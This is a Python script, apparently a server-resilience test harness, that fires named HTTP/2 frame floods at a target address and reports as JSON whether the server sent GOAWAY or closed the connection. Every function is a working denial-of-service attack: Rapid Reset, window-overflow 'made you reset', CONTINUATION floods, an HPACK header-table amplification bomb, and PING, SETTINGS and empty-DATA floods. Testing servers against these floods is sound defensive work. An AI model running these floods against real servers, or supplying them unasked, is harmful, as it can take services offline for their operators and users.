"""Floods of frames that carry nothing: `floods.py ADDRESS NAME`.

Each flood goes on until the other side ends it or MOST is reached. Prints what came of it as JSON.
"""

import json
import sys
import time

import frames
from frames import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PRIORITY, RST_STREAM, SETTINGS
from frames import headers, plain, raw, request, window

MOST = 200_000
SECONDS = 20


def repeat(connection, make, batch=100, most=MOST):
    """Sends `make(number)`, in batches as a flood would."""
    until = time.monotonic() + SECONDS
    number = 0
    while number < most and time.monotonic() < until:
        chunk = b"".join(make(number + at) for at in range(batch))
        number += batch
        if not connection.send(chunk, batch):
            break
    # What is under way to us when the last was sent.
    connection.wait(lambda self: self.is_closed, 5)


def opened(connection, stream=1, more=()):
    connection.send(headers(stream, request("/upload/x", "PUT", more=more), END_HEADERS))


def rapid_reset(connection):
    cancel = (8).to_bytes(4, "big")
    repeat(connection, lambda n: headers(2 * n + 1, request()) + raw(RST_STREAM, 0, 2 * n + 1, cancel))


def made_you_reset(connection):
    """The client provokes the server's resets by a window that overflows."""
    repeat(connection, lambda n: headers(2 * n + 1, request("/32m")) + window(2 * n + 1, (1 << 31) - 1))


def data_after_the_end(connection):
    repeat(connection, lambda n: headers(2 * n + 1, request("/32m")) + raw(DATA, 0, 2 * n + 1, b"x" * 20))


def malformed_requests(connection):
    repeat(connection, lambda n: headers(2 * n + 1, request(more=[("Upper", "x")])))


def pings(connection):
    repeat(connection, lambda n: raw(PING, 0, 0, n.to_bytes(8, "big")))


def pongs(connection):
    repeat(connection, lambda n: raw(PING, 1, 0, n.to_bytes(8, "big")))


def empty_settings(connection):
    repeat(connection, lambda _: raw(SETTINGS))


def changing_settings(connection):
    repeat(connection, lambda n: raw(SETTINGS, 0, 0, b"\x00\x04" + (65535 - n % 9).to_bytes(4, "big")))


def table_sizes(connection):
    repeat(connection, lambda n: raw(SETTINGS, 0, 0, b"\x00\x01" + (n % 2 * 4096).to_bytes(4, "big")))


def empty_data(connection):
    opened(connection)
    repeat(connection, lambda _: raw(DATA, 0, 1))


def padding_only(connection):
    opened(connection)
    repeat(connection, lambda _: raw(DATA, PADDED, 1, bytes([200]) + bytes(200)), batch=20)


def tiny_data(connection):
    opened(connection)
    repeat(connection, lambda _: raw(DATA, 0, 1, b"x"), batch=1000)


def continuations(connection):
    connection.send(raw(HEADERS, END_STREAM, 1, plain(request())))
    repeat(connection, lambda n: raw(CONTINUATION, 0, 1, plain([(f"x-{n}", "y" * 50)])))


def empty_continuations(connection):
    connection.send(raw(HEADERS, END_STREAM, 1, plain(request())))
    repeat(connection, lambda _: raw(CONTINUATION, 0, 1))


def window_updates(connection):
    repeat(connection, lambda _: window(0, 1))


def window_updates_of_a_stream(connection):
    opened(connection)
    repeat(connection, lambda _: window(1, 1))


def priorities(connection):
    repeat(connection, lambda n: raw(PRIORITY, 0, 2 * (n % 50) + 1, (2 * (n % 49) + 101).to_bytes(4, "big") + b"\x10"))


def unknown_frames(connection):
    repeat(connection, lambda _: raw(0x42, 0, 0, b"x"))


def resets_of_ended_streams(connection):
    connection.send(headers(1, request()))
    connection.wait(lambda self: 1 in self.ended, 10)
    repeat(connection, lambda _: raw(RST_STREAM, 0, 1, bytes(4)))


def header_bomb(connection):
    """A table entry of 4,000 bytes, named by a byte each time: 16 KiB that mean 64 MiB."""
    large = b"\x40" + frames.literal("x-large") + frames.literal("z" * 3900)
    connection.send(raw(HEADERS, END_STREAM | END_HEADERS, 1, plain(request()) + large))
    repeat(connection, lambda n: raw(HEADERS, END_STREAM | END_HEADERS, 2 * n + 3, plain(request()) + b"\xbe" * 16000), 1, 200)


def too_many_streams(connection):
    """More requests at once than are allowed, again and again."""
    repeat(connection, lambda n: headers(2 * n + 1, request("/32m")), most=20_000)


FLOODS = {
    name: flood
    for name, flood in list(globals().items())
    if callable(flood) and getattr(flood, "__module__", "") == "__main__" and name not in ("repeat", "opened")
}

if __name__ == "__main__":
    address, name = sys.argv[1:]
    connection = frames.Connection(address)
    begun = time.monotonic()
    FLOODS[name](connection)
    result = connection.outcome()
    print(json.dumps({
        "goaway": result["goaway"],
        "closed": result["closed"],
        "sent": result["sent"],
        "resets": len(result["resets"]),
        "seconds": time.monotonic() - begun,
    }))
